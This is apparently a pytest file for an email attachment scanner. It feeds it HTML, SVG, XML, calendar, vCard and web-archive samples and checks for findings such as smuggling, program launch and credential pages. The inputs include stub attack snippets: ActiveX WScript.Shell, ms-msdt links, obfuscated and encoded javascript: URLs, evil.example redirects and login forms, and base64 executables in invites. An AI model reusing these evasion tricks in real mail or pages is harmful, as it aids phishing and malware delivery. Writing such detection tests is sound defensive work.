"""Pages, pictures, XML, calendars and web archives: whatever a browser, Outlook or Word would run or save."""

from __future__ import annotations

import base64

import pytest
from tests.mail_of import HEAD, PROGRAM, attached, found_in, names_in, page

from wardmail.content.inspection import inspect

ENCODED = base64.b64encode(PROGRAM)
WARNED = {"html-attachment", "html-script-attached"}
BROWSED = (
    b'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="X"\r\n\r\n--X\r\nContent-Type: text/html\r\n\r\n'
    b"<script>x()</script>\r\n--X\r\nContent-Location: file:///C:/a.png\r\nContent-Transfer-Encoding: base64\r\n\r\n"
    + ENCODED
    + b"\r\n--X--\r\n"
)


@pytest.mark.parametrize(
    ("markup", "finding"),
    [
        (b"<script>window['at'+'ob']('x');var b=new Blob([1])</script>", "html-smuggling"),
        (b"<script>new ActiveXObject('WScript.Shell').Run('calc')</script>", "html-starts-program"),
        (b'<script language=vbscript>Set s = CreateObject("WScript.Shell")</script>', "html-starts-program"),
        (b"<script>location.href='ms-msdt:/id PCWDiagnostic'</script>", "html-starts-program"),
        (b"<script>var _0x1a2b=[1]</script>", "html-script-hidden"),
        (b"<script>" + b"(![]+[])[+[]]" * 9 + b"</script>", "html-script-hidden"),
        (b"<script>k='ev'+'al';window[k](x)</script>", "html-script-hidden"),
        (b"<script>window.location.href='https://evil.example/login'</script>", "html-leads-away"),
        (b"<script>location='https://evil.example/login'</script>", "html-leads-away"),
        (b"<meta http-equiv=refresh content='0;url=https://evil.example/'>", "html-leads-away"),
        (b"<script src='https://evil.example/a.js'></script>", "html-script-attached"),
        ("<html><script>new ActiveXObject('x')</script>".encode("utf-16"), "html-starts-program"),
        (b"<ht\0ml><scr\0ipt>new ActiveXObject('x')</scr\0ipt>", "html-starts-program"),
        (b"<form action=https://evil.example><input name=pass></form>", "html-credential-page"),
    ],
)
def test_attached_pages_that_act(markup: bytes, finding: str) -> None:
    assert finding in found_in(attached(markup, "a.html", "text/html"))


def test_a_report_that_folds_its_tables_is_warned_of_and_not_kept_back() -> None:
    report = (
        b"<html><script>var location = 1; function fold(n){document.getElementById(n).style.display='none'}</script>"
        b"<table><tr><td onclick=fold(1)>ward</td></tr></table><svg><path d='M0 0'/></svg></html>"
    )
    assert found_in(attached(report, "report.html", "text/html")) == WARNED


@pytest.mark.parametrize(
    "target", ["java\tscript:x()", "java&#10;script:x()", "&#106;avascript:x()", " javascript:x()"]
)
def test_a_link_that_runs_a_script_is_read_as_browsers_read_it(target: str) -> None:
    assert "html-active-link" in found_in(page(f'<a href="{target}">x</a>'))
    picture = (
        f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink"><a x:href="{target}"/></svg>'
    )
    assert "svg-script" in found_in(attached(picture.encode(), "a.svg", "image/svg+xml"))


@pytest.mark.parametrize(
    ("markup", "finding"),
    [
        (
            b'<?xml version="1.0"?><x><script xmlns="http://www.w3.org/1999/xhtml">x</script></x>',
            "html-script-attached",
        ),
        (b'<x><s:script xmlns:s="http://www.w3.org/1999/xhtml">x</s:script></x>', "html-script-attached"),
        (b'<?xml version="1.0"?><s:svg xmlns:s="http://www.w3.org/2000/svg" onload="x()"/>', "svg-script"),
        (b"<x>" + b" " * 9000 + b'<s:svg xmlns:s="http://www.w3.org/2000/svg" onload="x()"/></x>', "svg-script"),
        (
            '<x><s:script xmlns:s="http://www.w3.org/1999/xhtml">x</s:script></x>'.encode("utf-16"),
            "html-script-attached",
        ),
        (
            b'<!DOCTYPE x [<!ENTITY n "http://www.w3.org/1999/xhtml">]><s:script xmlns:s="&n;">x</s:script>',
            "html-script-attached",
        ),
        (b'<x xmlns="&#104;ttp://www.w3.org/1999/xhtml"><script>x</script></x>', "html-script-attached"),
        (b'<?xml version="1.0"?><ms:script language="JScript" implements-prefix="u">x</ms:script>', "type-script"),
    ],
)
def test_xml_that_a_browser_would_run(markup: bytes, finding: str) -> None:
    assert finding in found_in(attached(markup, "a.xml", "application/xml"))


def test_a_record_with_a_page_for_people_in_it_is_harmless() -> None:
    fhir = b'<?xml version="1.0"?><Patient xmlns="http://hl7.org/fhir"><div xmlns="http://www.w3.org/1999/xhtml"><p>A</p></div></Patient>'
    assert found_in(attached(fhir, "a.xml", "application/fhir+xml")) == set()


def test_scripts_of_another_vocabulary_are_none() -> None:
    flat = (
        b'<?xml version="1.0"?><office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
        b' xmlns:xhtml="http://www.w3.org/1999/xhtml"><office:scripts><office:script/></office:scripts></office:document>'
    )
    assert found_in(attached(flat, "a.fodt")) == set()


def calendar(line: bytes) -> bytes:
    return b"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\n%b\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n" % line


@pytest.mark.parametrize(
    "line",
    [
        b'ATTACH;X-FILENAME="a:b.exe";ENCODING=BASE64;VALUE=BINARY:' + ENCODED[:50] + b"\r\n " + ENCODED[50:],
        b"ATTACH;VALUE=BINARY;ENCODING=BASE64;FILENAME=b.exe:" + ENCODED,
        b"attach;encoding=b;x-label=b.exe:" + ENCODED,
    ],
)
def test_files_in_calendars_are_opened(line: bytes) -> None:
    message = attached(calendar(line), "a.ics", "text/calendar")
    assert "type-executable" in found_in(message)
    assert any(name.endswith("b.exe") for name in names_in(inspect(message)))


def test_files_in_cards_are_opened_and_portraits_are_harmless() -> None:
    card = b"BEGIN:VCARD\r\nVERSION:4.0\r\nFN:x\r\nPHOTO:data:image/jpeg;base64,%b\r\nEND:VCARD\r\n"
    assert "type-executable" in found_in(attached(card % ENCODED, "a.vcf", "text/vcard"))
    portrait = base64.b64encode(b"\xff\xd8\xff\xe0" + b"\0" * 99)
    assert found_in(attached(card % portrait, "a.vcf", "text/vcard")) == set()


def test_an_invitation_with_a_page_is_an_invitation() -> None:
    invitation = calendar(
        b'X-ALT-DESC;FMTTYPE=text/html:<html><body><a href="https://teams.example/x">Join</a></body></html>'
    )
    inspection = inspect(attached(invitation, "invite.ics", "text/calendar"))
    assert not inspection.all_findings
    assert "https://teams.example/x" in inspection.urls
    assert "html-credential-page" in found_in(attached(invitation + b"<input type=password>", "a.html", "text/html"))


@pytest.mark.parametrize("before", [b"", b"some words\r\n\r\nand more\r\n"])
@pytest.mark.parametrize("name", ["a.mht", "a.doc"])
def test_web_archives_run_as_pages_and_carry_files(name: str, before: bytes) -> None:
    assert WARNED | {"type-executable"} <= found_in(attached(before + BROWSED, name))


def test_an_attached_message_is_no_page() -> None:
    assert not found_in(attached(HEAD + b"Content-Type: text/html\r\n\r\n<p>Hello</p>", "a.eml"))
